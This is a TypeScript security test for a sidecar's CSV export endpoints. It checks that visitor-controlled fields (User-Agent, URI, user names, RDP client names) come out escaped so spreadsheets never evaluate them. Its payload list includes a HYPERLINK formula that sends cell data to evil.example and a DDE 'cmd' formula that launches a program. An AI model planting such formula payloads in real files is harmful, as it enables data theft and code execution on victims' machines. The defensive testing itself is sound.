// Security suite: every CSV export of a running sidecar writes text that someone
// else chose (a visitor's User-Agent and URI, a desktop client's name, a user name, an activity
// message) so that a spreadsheet opens it as text, never as a formula. The exports are found in the
// server's own endpoint list (every GET whose query takes format=csv): an export added later without
// a probe here fails the first test.
//   node --import tsx --test --test-concurrency=1 test/security/csv-formulas.test.ts
import { msg } from '@gatehouse/common/messages/index.js';
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import { startTestServer, apiToken, bearer, type TestServer, apiInit } from '../../sidecar/test/lib/server.js';
import { fullPath, type Endpoint } from '../../sidecar/src/http/registry.js';
import { accessLogFile } from '../../sidecar/src/proxy/fragments/access-log.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-1+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uff1d1+1',
  "=cmd|' /C calc'!A0",
];
/** What a spreadsheet would start evaluating (the leading characters it skips, then = + - @ or their full-width forms). */
const LIVE = /^[\s\p{Cc}]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;

let s: TestServer;
let h: Record<string, string>;
before(async () => {
  s = await startTestServer({ GATEHOUSE_RATE_LIMIT_ADMIN: '100000', GATEHOUSE_RATE_LIMIT_LOGIN: '100000' });
  h = bearer(await apiToken(s));
});
after(async () => s.close());

const api = apiInit(
  () => s,
  () => h,
);

/** Each export's probe: put formula text where an outsider could, then return the CSV path to fetch. */
const PROBES: Record<string, () => Promise<string>> = {
  '/api/v1/logs/access/export': async () => {
    // what Caddy writes to its access log for a visitor who chose their User-Agent, URI and Referer
    const lines = FORMULAS.map((f, i) =>
      JSON.stringify({
        level: 'info',
        ts: Date.now() / 1000 + i,
        logger: 'http.log.access.gatehouse',
        msg: 'handled request',
        request: {
          remote_ip: '127.0.0.1',
          client_ip: '192.0.2.7',
          proto: 'HTTP/1.1',
          method: 'GET',
          host: 'app.example.test:443',
          uri: `/${encodeURIComponent(f)}`,
          headers: { 'User-Agent': [f], Referer: [f] },
        },
        bytes_read: 0,
        duration: 0.001,
        size: 1,
        status: 200,
      }),
    ).join('\n');
    fs.appendFileSync(accessLogFile(s.dataDir), `${lines}\n`);
    return '/api/v1/logs/access/export?format=csv';
  },
  '/api/v1/logs/activity/export': async () => {
    // a user whose name starts with @ signs in: "@name signed in" is the message
    const name = '@evil-name';
    const created = await api('/users', { method: 'POST', json: { username: name, password: 'a-long-password-1', role: 'user' } });
    assert.equal(created.status, 201, JSON.stringify(created.data));
    const login = await s.req('/login', { method: 'POST', json: { username: name, password: 'a-long-password-1' }, headers: { accept: 'application/json' } });
    assert.equal(login.status, 200);
    for (const f of FORMULAS) await s.deps.activity.record({ source: f, event_type: f, msg: msg('text.verbatim', { text: f }), details: { f }, ip: null });
    return '/api/v1/logs/activity/export?format=csv&limit=1000';
  },
  '/api/v1/rdp/history/export': async () => {
    const r = await api('/rdp', { method: 'POST', json: { name: `csv-${process.pid}`, access_mode: 'internal', target_host: '127.0.0.1', target_port: 3389 } });
    assert.equal(r.status, 201, JSON.stringify(r.data));
    const id = r.data.route.id as number;
    // the client name is what the desktop client sends when it opens a session
    for (const f of FORMULAS) {
      const started = await s.deps.rdpSessions.start(id, { token_id: null, client_name: f });
      await s.deps.rdpSessions.end(started.id, { token_id: null, client_name: f });
    }
    return '/api/v1/rdp/history/export?format=csv';
  },
};

function takesCsv(e: Endpoint): boolean {
  if (e.method !== 'GET' || !e.query) return false;
  // reason: the endpoint's query is a zod object schema; its shape is read as a plain record
  const format = (e.query as unknown as { shape?: Record<string, unknown> }).shape?.format;
  return format !== undefined && JSON.stringify((format as { toJSONSchema?: () => unknown }).toJSONSchema?.() ?? {}).includes('csv');
}

test('every CSV export of the registry has a probe here', () => {
  const exports = s.endpoints.filter(takesCsv).map((e) => fullPath(e));
  assert.ok(exports.length >= 3, `the exports were found: ${exports.join(', ')}`);
  assert.deepEqual(
    exports.filter((p) => !(p in PROBES)),
    [],
    'exports without a probe',
  );
});

for (const [path, probe] of Object.entries(PROBES)) {
  test(`${path}: formula text comes out escaped, no cell would be evaluated`, async () => {
    const res = await s.req(await probe(), { headers: h });
    assert.equal(res.status, 200, String(res.data));
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    const rows = parse(String(res.data), { relax_column_count: false }) as string[][];
    const cells = rows.flat();
    const live = cells.filter((c) => LIVE.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    assert.deepEqual(live, [], 'cells a spreadsheet would run as formulas');
    // not vacuous: the formula text is there, escaped
    const escaped = cells.filter((c) => c.startsWith("'") && LIVE.test(c.slice(1)));
    assert.ok(escaped.length >= FORMULAS.length, `escaped cells: ${escaped.length}`);
    assert.ok(cells.includes(`'${FORMULAS[0]}`), 'the HYPERLINK formula, escaped');
  });
}
